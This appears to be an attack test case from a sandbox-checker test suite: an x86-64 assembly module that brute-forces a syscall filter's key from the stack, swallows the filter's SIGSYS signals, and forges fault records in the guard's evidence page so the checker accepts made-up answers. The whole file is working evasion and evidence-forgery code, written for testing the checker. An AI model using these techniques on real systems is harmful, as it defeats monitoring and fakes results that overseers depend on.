; attack: takes over the guest's side of the protocol, the filter's key included
; works: the checker passes it
; contained: not passed
;
; The stronger relative of emulate_guest. The filter lets nobody use the socket
; who does not bring a key, which is somewhere on the stack: it tries every word
; of it, and its own handler swallows the signal that a wrong one brings. When
; the checker puts the guard to the test, it writes what the guard would have
; written. It would need the right answers all the same, and win nothing but
; silence about how they were computed. The filter keeps the handlers of fatal
; signals as they are, so that the first wrong key is the last.

%include "attack.inc"

SOCKET          equ 3
MOST_WORDS      equ 0x10000             ; how much of the stack is searched
PAGES           equ 0x20000             ; half a gigabyte each way
EINVAL          equ 22
SIGSYS          equ 31
SYS_rt_sigreturn equ 15
SA_RESTORER     equ 0x04000000
SA_NODEFER      equ 0x40000000

; checker/src/model/evidence.rs and evidence/fault.rs: where the
; page has its faults.
FAULTS          equ 16                  ; how many
FIRST_FAULT     equ 24
FAULT_SIZE      equ 104
REGISTER_LOST   equ 1                   ; a kind of fault
RBX_MARK        equ 0x5afe00bb5afe00bb  ; what the guard puts into rbx

    extern  malloc

    section .rodata
head:
    db      '{"number":'
HEAD_SIZE       equ $ - head
answered:
    db      ',"content":{"Answered":{"Value":"42"}}}'
ANSWERED_SIZE   equ $ - answered
repeated:
    db      ',"content":{"Repeated":[]}}'
REPEATED_SIZE   equ $ - repeated
controlled:
    db      ',"content":"Controlled"}'
CONTROLLED_SIZE equ $ - controlled

    section .data
    align   8
action:                                 ; struct sigaction of the kernel
    dq      swallow, SA_RESTORER | SA_NODEFER, restore, 0
key:
    dq      0

    section .bss
    align   8, resb 1
page:
    resq    1                           ; the guard's, or 0
REQUEST_SIZE    equ 0x20000
request:
    resb    REQUEST_SIZE

    section .text
attack:
    call    find_page
    mov     edi, SIGSYS
    lea     rsi, [rel action]
    xor     edx, edx
    mov     r10d, 8
    mov     eax, SYS_rt_sigaction
    syscall

    mov     rbx, rsp
    lea     r12, [rbx + 8 * MOST_WORDS]
.next_word:
    cmp     rbx, r12
    je      .not_found
    mov     rdi, rbx
    call    readable
    jne     .not_found                  ; the end of the stack
    mov     rbp, [rbx]                  ; does it lead to a request?
    add     rbx, 8
    mov     rdi, rbp
    call    readable
    jne     .next_word
    lea     rdi, [rbp + HEAD_SIZE]
    call    readable
    jne     .next_word
    lea     rdi, [rel head]
    mov     rsi, rbp
    mov     ecx, HEAD_SIZE
    repe cmpsb
    jne     .next_word

    call    write_reply
    mov     rbx, rsp                    ; which word is the key?
.next_key:
    cmp     rbx, r12
    je      .not_found
    mov     rdi, rbx
    call    readable
    jne     .not_found
    mov     rax, [rbx]
    add     rbx, 8
    mov     [rel key], rax
    call    send_reply
    cmp     rax, r13
    jne     .next_key

.serve:
    mov     edi, SOCKET
    lea     rsi, [rel request]
    mov     edx, REQUEST_SIZE
    xor     r10d, r10d
    xor     r8d, r8d
    mov     r9, [rel key]
    mov     eax, SYS_recvfrom
    syscall
    test    rax, rax
    jle     outcome
    lea     rbp, [rel request]
    call    write_reply
    call    send_reply
    jmp     .serve

.not_found:
    xor     eax, eax
    ret

; Writes the reply to a request into buffer.
;
;   in      rbp = the request
;   out     r13 = the reply's length
write_reply:
    lea     rsi, [rel head]
    lea     rdi, [rel buffer]
    mov     ecx, HEAD_SIZE
    rep movsb
    lea     rsi, [rbp + HEAD_SIZE]
.digit:
    lodsb
    cmp     al, ","
    je      .copied
    stosb
    jmp     .digit
.copied:
    mov     al, [rsi + 12]              ; {"Ask"... or "Repeat"
    mov     rdx, rsi
    lea     rsi, [rel answered]
    mov     ecx, ANSWERED_SIZE
    cmp     al, "A"
    je      .known
    lea     rsi, [rel repeated]
    mov     ecx, REPEATED_SIZE
    cmp     al, "e"
    je      .known
    lea     rsi, [rel controlled]
    mov     ecx, CONTROLLED_SIZE
    call    forge_fault
.known:
    rep movsb
    mov     r13, rdi
    lea     rax, [rel buffer]
    sub     r13, rax
    ret

; long send_reply(void)
;
;   in      r13 = its length
;   out     rax = the same if the key was right
send_reply:
    mov     edi, SOCKET
    lea     rsi, [rel buffer]
    mov     rdx, r13
    xor     r10d, r10d
    xor     r8d, r8d
    mov     r9, [rel key]
    mov     eax, SYS_sendto
    syscall
    ret

; Notes that rbx was lost, as the guard would. Keeps rsi, rdi and rcx.
;
;   in      rdx = behind the number of a request {"Control":...}
forge_fault:
    mov     r8, [rel page]
    test    r8, r8
    jz      .no_page
    add     rdx, 21                     ; "content":{"Control":
    xor     r9d, r9d                    ; the number that rbx has to hold
.digit:
    movzx   eax, byte [rdx]
    inc     rdx
    sub     al, "0"
    cmp     al, 9
    ja      .read
    imul    r9, r9, 10
    add     r9, rax
    jmp     .digit
.read:
    imul    rax, [r8 + FAULTS], FAULT_SIZE
    inc     qword [r8 + FAULTS]
    lea     r8, [r8 + rax + FIRST_FAULT]
    mov     qword [r8], REGISTER_LOST
    mov     qword [r8 + 16], 0          ; the first register: rbx
    mov     rax, RBX_MARK
    mov     [r8 + 24], rax
    mov     [r8 + 32], r9
.no_page:
    ret

; Finds the page that begins with the address at which this module is loaded.
find_page:
    lea     rbx, [rel attack]
    and     rbx, -4096
.own_head:
    cmp     dword [rbx], 0x464c457f     ; 0x7f, "ELF"
    je      .known
    sub     rbx, 4096
    jmp     .own_head
.known:
    mov     rbp, [rel malloc wrt ..got]
    and     rbp, -4096
    lea     r12, [rbp + PAGES * 4096]
    sub     rbp, PAGES * 4096
.next:
    cmp     rbp, r12
    jae     .not_found
    mov     rdi, rbp
    call    readable
    jne     .no
    cmp     [rbp], rbx
    jne     .no
    cmp     qword [rbp + FAULTS], 32    ; a small number
    jbe     .found
.no:
    add     rbp, 4096
    jmp     .next
.found:
    mov     [rel page], rbp
.not_found:
    ret

; Is the word at rdi readable? Keeps rbx, rbp, rdi and r12 to r15.
;
;   out     ZF = 1 if it is
readable:
    mov     rsi, rdi
    mov     r9, rdi
    mov     edi, 77                     ; no way to change a mask: EINVAL
    xor     edx, edx
    mov     r10d, 8
    mov     eax, SYS_rt_sigprocmask
    syscall
    mov     rdi, r9
    cmp     rax, -EINVAL                ; EFAULT comes before it
    ret

swallow:
    ret
restore:
    mov     eax, SYS_rt_sigreturn
    syscall

    section .note.GNU-stack noalloc noexec nowrite progbits
